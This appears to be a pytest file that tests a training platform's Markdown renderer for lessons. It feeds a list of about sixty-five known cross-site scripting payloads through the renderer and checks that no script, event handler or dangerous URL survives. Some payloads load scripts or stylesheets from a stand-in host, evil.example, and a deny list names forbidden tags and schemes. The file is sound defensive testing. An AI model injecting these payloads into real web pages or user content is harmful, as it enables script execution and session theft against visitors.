"""Lesson Markdown: what learners get is sanitised, whatever a trainer (or an attacker) writes."""

from __future__ import annotations

import re
from datetime import datetime
from html.parser import HTMLParser

import pytest

from training.markdown import DO_BOX_CLASS, render

SHA = "a" * 64

# Known XSS vectors (OWASP filter-evasion cheat sheet, html5sec.org, PortSwigger's list),
# written as raw HTML and as Markdown links, images, autolinks and reference definitions.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"  javascript:alert(1)\">click</a>",
    "<a href=\"vbscript:msgbox(1)\">click</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">click</a>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<style>@import 'http://evil.example/xss.css';</style>",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](&#x6A;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](  javascript:alert(1)  )",
    "[click](java\nscript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](https://evil.example/track.png)",
    "![x\" onerror=\"alert(1)](/media/" + SHA + ".webp)",
    "[x](/ \"title\" onmouseover=\"alert(1)\")",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[a](<javascript:alert(1)>)",
    "**<img src=x onerror=alert(1)>**",
    "> <script>alert(1)</script>",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |",
    "`<script>` is fine as code, but <script>alert(1)</script> is not",
    "<a href=\"http://ok.example\" onclick=\"alert(1)\">ok</a>",
    "<img src=\"/media/" + SHA + ".webp\" onload=\"alert(1)\">",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=\"java&#x09;script:alert(1)\">tab</a>",
    "<a href=\"&#14;javascript:alert(1)\">control</a>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
]

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "style", "svg", "math", "link", "meta", "base", "form",
                  "input", "frame", "frameset", "applet", "template", "noscript", "video", "audio", "source",
                  "details", "marquee", "isindex", "xmp", "body", "html"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "poster", "data", "xlink:href", "srcset"}


class Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def _parse(html: str) -> Collector:
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector


def _problems(html: str) -> list[str]:
    problems = []
    for tag, attrs in _parse(html).tags:
        if tag in FORBIDDEN_TAGS:
            problems.append(f"<{tag}> survived")
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"event handler {name} on <{tag}>")
            if name == "style":
                problems.append(f"style attribute on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                squashed = re.sub(r"[\x00-\x20]+", "", value).lower()
                if squashed.startswith(DANGEROUS_SCHEMES):
                    problems.append(f"dangerous URL {value!r} in {name} of <{tag}>")
            if tag == "img" and name == "src" and not re.fullmatch(r"/media/[0-9a-f]{64}\.webp", value or ""):
                problems.append(f"image from elsewhere: {value!r}")
    return problems


def test_there_are_at_least_forty_payloads():
    assert len(XSS_PAYLOADS) >= 40
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_script_handler_or_dangerous_url_survives(payload):
    html = str(render(payload))

    assert _problems(html) == [], html
    # The raw text may show as text, but never as markup the browser would run.
    assert "<script" not in html.lower()


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payloads_inside_normal_lessons_are_caught_too(payload):
    html = str(render(f"# A lesson\n\nSome text.\n\n{payload}\n\n- a list item with {payload}\n"))

    assert _problems(html) == [], html


def test_the_checker_itself_sees_the_dangers():
    """Guard against a test that passes because the parser missed something."""
    assert set(_problems('<script>x</script><a href=" java\tscript:x">a</a><img src="https://x/y.png" onerror="x">')) == {
        "<script> survived", "dangerous URL ' java\\tscript:x' in href of <a>", "event handler onerror on <img>",
        "image from elsewhere: 'https://x/y.png'"}


def test_ordinary_markdown_renders():
    html = str(render("# Heading\n\nSome **bold** and *italic* text with [a link](https://un.org) "
                      "and [a page](/training).\n\n1. one\n2. two\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
                      f"![A child-friendly space](/media/{SHA}.webp)\n\nWrite to [us](mailto:cp@un.org)."))

    assert "<h2>Heading</h2>" in html  # the lesson title is the page's h1, so headings move down one
    assert "<strong>bold</strong>" in html and "<em>italic</em>" in html
    assert '<a href="https://un.org" rel="noopener noreferrer">a link</a>' in html
    assert 'href="/training"' in html and 'href="mailto:cp@un.org"' in html
    assert "<ol>" in html and "<table>" in html and '<td class="align-right">2</td>' in html
    assert f'<img src="/media/{SHA}.webp" alt="A child-friendly space">' in html


def test_what_you_do_box_gets_its_class_and_other_quotes_do_not():
    html = str(render("> **What you do**\n> - Tell the CPA.\n\n> A plain quotation.\n\n> Not **bold** first."))

    boxes = [attrs for tag, attrs in _parse(html).tags if tag == "blockquote"]
    assert boxes == [[("class", DO_BOX_CLASS)], [], []]


def test_raw_html_is_shown_as_text_not_lost():
    html = str(render("Use <b>bold</b> & <i>stuff</i>"))

    assert "&lt;b&gt;bold&lt;/b&gt;" in html and "&amp;" in html


def test_empty_body_renders_nothing():
    assert str(render("")) == "" and str(render(None)) == ""


# ---- frozen lessons are rendered once, and again when the policy changes -----------------------

def test_a_frozen_lesson_is_rendered_once_and_again_under_a_new_policy(client, login, learner, monkeypatch):
    from extensions import db
    from tests import training_factories as tf
    from training import markdown

    course = tf.make_course()
    module = tf.make_module(course, lessons=1, published=False)
    version = module.versions[0]
    lesson = version.lessons[0]
    lesson.body = {"en": "A **bold** rule for the frozen-lesson cache test."}
    db.session.flush()
    version.status, version.published_at = "published", datetime(2026, 12, 1, 9, 0)
    db.session.commit()
    markdown._render_cached.cache_clear()
    calls = []
    real_sanitise = markdown.sanitise
    monkeypatch.setattr(markdown, "sanitise", lambda html: calls.append(html) or real_sanitise(html))
    login(client, learner)
    for _ in range(3):
        assert "<strong>bold</strong>" in client.get(f"/training/lessons/{lesson.id}").get_data(as_text=True)
    assert len(calls) == 1  # parsed and sanitised once, then served from memory

    # A stricter policy: without a new policy version the cached HTML would still be served ...
    monkeypatch.setattr(markdown, "ALLOWED_TAGS", markdown.ALLOWED_TAGS - {"strong"})
    assert "<strong>bold</strong>" in client.get(f"/training/lessons/{lesson.id}").get_data(as_text=True)
    # ... so the policy carries a version: raising it renders every lesson again under the new rules.
    monkeypatch.setattr(markdown, "POLICY_VERSION", markdown.POLICY_VERSION + 1)
    page = client.get(f"/training/lessons/{lesson.id}").get_data(as_text=True)
    assert "<strong>" not in page and "A bold rule for the frozen-lesson cache test." in page
    assert len(calls) == 2


def test_a_draft_preview_is_never_served_from_the_cache():
    from training import markdown

    markdown._render_cached.cache_clear()
    assert markdown.render_frozen("**x**") == markdown.render("**x**")
    assert markdown._render_cached.cache_info().currsize == 1
    markdown.render("**draft text**")
    assert markdown._render_cached.cache_info().currsize == 1
